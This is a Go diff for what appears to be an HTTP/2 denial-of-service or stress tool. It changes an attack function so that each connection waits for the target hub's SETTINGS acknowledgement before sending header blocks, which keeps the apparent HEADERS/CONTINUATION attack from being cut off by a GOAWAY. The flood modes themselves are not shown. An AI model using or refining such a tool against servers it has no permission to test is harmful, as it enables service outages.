@@ -21,6 +21,8 @@ type h2conn struct {
 	fr      *http2.Framer
 	mu      sync.Mutex
 	ended   chan struct{}
+	acked   chan struct{} // closed once the hub's first SETTINGS is acknowledged
+	ackOnce sync.Once
 	goaway  atomic.Bool
 	byHub   atomic.Bool
 	enc     *hpack.Encoder
@@ -31,7 +33,7 @@ type h2conn struct {
 // attack runs c.mode on one connection until the attack's end or the hub
 // ends the connection, and counts how it ended.
 func attack(tc *tls.Conn, c *config, s *stats) {
-	h := &h2conn{c: tc, fr: http2.NewFramer(tc, tc), ended: make(chan struct{}), nextSID: 1}
+	h := &h2conn{c: tc, fr: http2.NewFramer(tc, tc), ended: make(chan struct{}), acked: make(chan struct{}), nextSID: 1}
 	h.enc = hpack.NewEncoder(&h.hb)
 	defer func() {
 		_ = tc.Close()
@@ -50,6 +52,14 @@ func attack(tc *tls.Conn, c *config, s *stats) {
 	}
 	go h.read(c.end)
 	if !h.write(func(fr *http2.Framer) error { return fr.WriteSettings() }) {
+		return
+	}
+	// The hub's SETTINGS are acknowledged before any block: an ack
+	// between a HEADERS and its CONTINUATION is a protocol error, which
+	// would end the connection by a GOAWAY instead of the attack.
+	select {
+	case <-h.acked:
+	case <-h.ended:
 		return
 	}
 	switch c.mode {
@@ -193,6 +203,7 @@ func (h *h2conn) read(end time.Time) {
 		case *http2.SettingsFrame:
 			if !f.IsAck() {
 				h.write(func(fr *http2.Framer) error { return fr.WriteSettingsAck() })
+				h.ackOnce.Do(func() { close(h.acked) })
 			}
 		case *http2.GoAwayFrame:
 			h.goaway.Store(true)
